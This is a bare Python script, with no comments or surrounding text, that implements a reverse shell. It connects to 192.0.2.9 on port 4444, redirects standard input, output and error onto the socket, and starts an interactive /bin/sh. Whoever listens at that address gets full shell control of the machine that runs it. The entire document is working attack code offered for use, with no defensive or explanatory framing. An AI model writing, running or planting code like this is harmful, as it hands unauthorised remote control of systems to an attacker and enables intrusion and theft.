#!/usr/bin/env python3
import socket, os, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.9", 4444))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
subprocess.call(["/bin/sh", "-i"])
